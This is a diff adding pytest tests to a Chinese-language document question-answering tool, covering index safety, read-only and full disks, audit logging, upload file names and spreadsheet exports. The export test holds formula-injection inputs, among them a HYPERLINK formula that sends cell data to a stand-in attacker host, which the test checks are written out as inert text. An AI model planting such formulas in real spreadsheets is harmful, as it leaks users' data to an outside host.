@@ -165,6 +165,156 @@ def test_chroma_server_scale_out(tmp_path):
         assert inc.returncode == 0 and "deleted" in inc.stdout
         ok2 = _rag("--corpus", str(corpus), "--data-dir", str(data), "ask", "光伏装机容量新增多少", env=env)
         assert "5.1万千瓦" in ok2.stdout
+        # a second instance with another corpus and its own data dir never deletes the first one's chunks
+        other = tmp_path / "other"
+        other.mkdir()
+        (other / "b.txt").write_text("临安区测试进展表\n" + GOOD_TABLE.replace("光伏", "风电"), encoding="utf-8")
+        for _ in range(2):
+            assert _rag("--corpus", str(other), "--data-dir", str(tmp_path / "data-b"), "ingest", env=env).returncode == 0
+        ok3 = _rag("--corpus", str(corpus), "--data-dir", str(data), "ask", "光伏装机容量新增多少", env=env)
+        assert "5.1万千瓦" in ok3.stdout and "Traceback" not in ok3.stderr
     finally:
         server.terminate()
         server.wait(timeout=10)
+
+
+# ---------------------------------------------------------------- issue S: nothing lost, nothing unbounded
+
+HASH = {"RAG_EMBEDDER": "hash"}
+
+
+def _small(tmp_path: Path) -> tuple[Path, Path]:
+    corpus = tmp_path / "corpus"
+    corpus.mkdir()
+    (corpus / "good.txt").write_text("余杭区测试进展表\n" + GOOD_TABLE, encoding="utf-8")
+    data = tmp_path / "data"
+    assert _rag("--corpus", str(corpus), "--data-dir", str(data), "ingest", env=HASH).returncode == 0
+    return corpus, data
+
+
+def test_an_empty_or_unmounted_corpus_never_wipes_the_index(tmp_path):
+    _, data = _small(tmp_path)
+    empty = tmp_path / "empty"
+    empty.mkdir()
+    res = _rag("--corpus", str(empty), "--data-dir", str(data), "ingest", env=HASH)
+    assert res.returncode == 3 and "Traceback" not in res.stderr
+    assert "--allow-shrink" in res.stderr and len(res.stderr.strip().splitlines()[-1]) < 400
+    ask = _rag("--data-dir", str(data), "ask", "光伏装机容量新增多少", env=HASH)
+    assert "4.2万千瓦" in ask.stdout
+
+
+def test_ask_batch_answers_every_line_and_a_bad_line_gets_an_error_object(tmp_path):
+    import json
+
+    corpus, data = _small(tmp_path)
+    lines = "光伏装机容量新增多少\n".encode() + b"\xff\xfe\xb0bad\n" + "建成公园几个\n".encode()
+    res = subprocess.run([sys.executable, "-m", "rag", "--corpus", str(corpus), "--data-dir", str(data), "ask", "--json",
+                          "-"], input=lines, capture_output=True, timeout=600, cwd=ROOT, env={**os.environ, **HASH})
+    assert res.returncode == 0, res.stderr
+    out = [json.loads(x) for x in res.stdout.decode().splitlines()]
+    assert len(out) == 3 and "4.2万千瓦" in out[0]["answer"] and "公园" in out[2]["answer"]
+    assert out[1]["line"] == 2 and "not valid UTF-8" in out[1]["error"]
+
+
+def _read_only(data: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    """`rag ARGS` with the data dir read-only: a read-only bind mount in a private mount namespace (root), else the
+    write bits taken away (another user)."""
+    cmd = [sys.executable, "-m", "rag", "--data-dir", str(data), *args]
+    if os.geteuid() != 0:
+        subprocess.run(["chmod", "-R", "a-w", str(data)], check=True)
+        return subprocess.run(cmd, capture_output=True, text=True, timeout=600, cwd=ROOT, env={**os.environ, **HASH})
+    if not shutil.which("unshare") or subprocess.run(["unshare", "-m", "true"], capture_output=True).returncode:
+        pytest.skip("root without mount namespaces: no way to make a folder read-only here")
+    line = " ".join(f"'{a}'" for a in cmd)
+    return subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c",
+                           f"mount --bind -o ro '{data}' '{data}' && exec {line}"],
+                          capture_output=True, text=True, timeout=600, cwd=ROOT, env={**os.environ, **HASH})
+
+
+def test_a_read_only_data_dir_is_exit_4_with_the_right_fix(tmp_path):
+    corpus, data = _small(tmp_path)
+    for args in (("--corpus", str(corpus), "ingest"), ("--corpus", str(corpus), "library", "remove", "good.txt"),
+                 ("ask", "光伏装机容量新增多少")):
+        res = _read_only(data, *args)
+        if res.returncode == 0 and args[0] == "ask":
+            continue  # a reader may work from a read-only folder
+        assert res.returncode == 4, (args, res.stderr)
+        assert "Traceback" not in res.stderr and "read-only" in res.stderr and "would not help" in res.stderr
+    assert (corpus / "good.txt").exists()  # the removal never happened
+
+
+def test_a_full_disk_is_exit_4_and_the_old_index_answers(tmp_path):
+    import resource
+
+    corpus, data = _small(tmp_path)
+    (corpus / "more.txt").write_text("临安区测试进展表\n" + GOOD_TABLE.replace("光伏", "风电") * 40, encoding="utf-8")
+    biggest = max(p.stat().st_size for p in data.rglob("*") if p.is_file())
+
+    def full() -> None:  # no file may grow past what is there: every write beyond fails as on a full disk
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+        resource.setrlimit(resource.RLIMIT_FSIZE, (biggest, biggest))
+
+    res = subprocess.run([sys.executable, "-m", "rag", "--corpus", str(corpus), "--data-dir", str(data), "ingest"],
+                         capture_output=True, text=True, timeout=600, cwd=ROOT, env={**os.environ, **HASH},
+                         preexec_fn=full)
+    assert res.returncode == 4 and "Traceback" not in res.stderr and "disk full" in res.stderr, res.stderr[-2000:]
+    ask = _rag("--data-dir", str(data), "ask", "光伏装机容量新增多少", env=HASH)
+    assert "4.2万千瓦" in ask.stdout
+
+
+def test_an_upload_killed_while_re_indexing_leaves_its_intent_in_the_audit_log(tmp_path):
+    corpus, data = _small(tmp_path)
+    paused = tmp_path / "paused"
+    script = ("import sys; from pathlib import Path; from rag.settings import Settings; "
+              "from rag.index.changes import Library; "
+              f"s = Settings.from_env(corpus_dir=Path({str(corpus)!r}), data_dir=Path({str(data)!r})); "
+              "Library(s, 'password editor 0badc0de').upload('new.txt', Path(sys.argv[1]).read_bytes())")
+    new = tmp_path / "new.txt"
+    new.write_text("临安区测试进展表\n" + GOOD_TABLE.replace("光伏", "风电"), encoding="utf-8")
+    proc = subprocess.Popen([sys.executable, "-c", script, str(new)], cwd=ROOT, stdout=subprocess.DEVNULL,
+                            stderr=subprocess.DEVNULL, env={**os.environ, **HASH, PAUSE_AFTER: "1", PAUSE_FILE: str(paused)})
+    while not paused.exists():
+        assert proc.poll() is None, "the upload ended before the pause point"
+        time.sleep(0.05)
+    proc.send_signal(signal.SIGKILL)
+    proc.wait(timeout=30)
+    log = _rag("--data-dir", str(data), "library", "log", env={**HASH, "USER": "mallory", "LOGNAME": "mallory"})
+    last = log.stdout.strip().splitlines()[-1]
+    assert "password editor 0badc0de\tupload\tnew.txt" in last and "unfinished" in last
+    assert ((data / "audit.jsonl").stat().st_mode & 0o777) == 0o600
+    rebuilt = _rag("--corpus", str(corpus), "--data-dir", str(data), "ingest", env={**HASH, "USER": "mallory"})
+    assert rebuilt.returncode == 0
+    from rag.cli.library import actor
+    from rag.ingest.library.audit import read
+
+    assert read(data)[-1].actor == actor() != "cli:mallory"  # the uid's login name, not $USER
+
+
+def test_downloads_never_carry_a_live_formula(tmp_path):
+    import io
+
+    import openpyxl
+    import pandas as pd
+
+    from rag.ui.dashboard import csv_bytes, excel_bytes
+
+    df = pd.DataFrame({"任务": ['=HYPERLINK("http://evil.example/?q="&A1,"点此查看")', "+1+1", "-2+3", "@SUM(A1)",
+                               "\t=1", "正常文本"], "序号": [1, 2, 3, 4, 5, 6]})
+    ws = openpyxl.load_workbook(io.BytesIO(excel_bytes(df))).active
+    cells = [ws.cell(row=i, column=1) for i in range(2, 8)]
+    assert all(c.data_type == "s" for c in cells)  # text, never a formula ('f')
+    assert cells[0].value.startswith("'=HYPERLINK(") and cells[5].value == "正常文本"
+    assert ws.cell(row=2, column=2).value == 1  # numbers stay numbers
+    text = csv_bytes(df).decode("utf-8-sig").splitlines()
+    assert all(line.startswith(('"\'', "'", "任务", "正常文本")) for line in text), text
+
+
+def test_a_300_character_chinese_upload_name_is_cut_by_bytes(tmp_path):
+    from rag.ingest.upload import safe_name, save_upload
+    from rag.settings import Settings
+
+    s = Settings.from_env(HASH, corpus_dir=tmp_path / "c", data_dir=tmp_path / "d")
+    name = safe_name("钱塘区" * 100 + ".txt")
+    assert name.endswith(".txt") and len(name.encode("utf-8")) <= 255
+    path = save_upload(s, "钱塘区" * 100 + ".txt", "钱塘区报告\n".encode())
+    assert path.exists() and len(path.name.encode("utf-8")) <= 255
